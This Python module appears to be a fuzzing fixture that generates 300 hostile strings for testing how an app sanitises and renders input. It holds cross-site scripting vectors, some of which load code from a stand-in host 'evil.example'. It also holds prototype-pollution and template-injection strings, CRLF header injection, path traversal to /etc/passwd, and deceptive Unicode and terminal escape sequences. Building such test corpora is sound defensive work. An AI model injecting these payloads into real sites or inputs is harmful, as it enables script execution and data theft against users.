"""Three hundred strings that somebody once got something to run with, or to break."""

from __future__ import annotations

from itertools import islice, product

_PAYLOADS = (
    "alert(1)", "alert`1`", "window.hit=1", "top.hit=1", "fetch('https://evil.example/')",
    "location='https://evil.example/'", "import('//evil.example/x.js')", "document.title='hit'",
)  # fmt: skip

_MARKUP = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=javascript:{}></iframe>",
    "<body onload={}>", "<details open ontoggle={}>", "<video><source onerror={}></video>",
    "<a href=javascript:{}>x</a>", "<math><mtext><img src=x onerror={}></mtext></math>",
    "<style>@import '//evil.example/x.css'</style><b onclick={}>", "<base href=//evil.example/>{}",
    "<object data=javascript:{}></object>", "<embed src=javascript:{}>", "<form action=javascript:{}>",
    "<input autofocus onfocus={}>", "<marquee onstart={}>", "<meta http-equiv=refresh content='0;{}'>",
    "<link rel=stylesheet href=//evil.example/x>{}", "</textarea><script>{}</script>",
    "</title><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "\"><script>{}</script>", "'onmouseover='{}'", "\"onfocus=\"{}\"autofocus=\"", "javascript:{}",
    "JaVaScRiPt:{}", "java\tscript:{}", "data:text/html,<script>{}</script>",
    "https://a.example/\"onmouseover=\"{}", "https://javascript:{}@a.example/", "mailto:x?body=<script>{}",
    "[x](javascript:{})", "![x](x\"onerror=\"{})", "```\n</code></pre><script>{}</script>\n```",
    "`<img src=x onerror={}>`", "${{{}}}", "{{{{constructor.constructor('{}')()}}}}",
    "{{\"__proto__\":{{\"x\":\"{}\"}}}}", "__proto__ {}", "constructor {}",
)  # fmt: skip

_STRANGE = (
    "\u202egnp.exe", "\u2066\u2067\u2068", "\u200b\ufeff\u00ad", "\u2028\u2029", "a\u0300" * 100,
    "\x1b[31mred\x1b]0;title\x07", "\x01\x02\x7f\x85", "%00%0a<script>", "&lt;script&gt;&#60;script&#62;",
    "\ufdfd" * 50, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20, "@" * 500, "`" * 501, "```" * 99,
    "https://" * 80, "https://a.example/" + "(" * 400, "(((" * 100, "#../../etc/passwd", "../" * 30,
    "null", "undefined", "NaN", "toString", "__proto__", "hasOwnProperty", "-" * 300, " \t \t x",
    "\n" * 30 + "far below", "x" * 5000, "\r\nX-Injected: 1\r\n\r\n<script>", "PUB lobby 1", "!DISCONNECT!",
)  # fmt: skip

STRINGS: tuple[str, ...] = (
    *_STRANGE,
    *islice(
        (shape.format(code) for code, shape in product(_PAYLOADS, _MARKUP)), 300 - len(_STRANGE)
    ),
)
"""All of them, each another."""
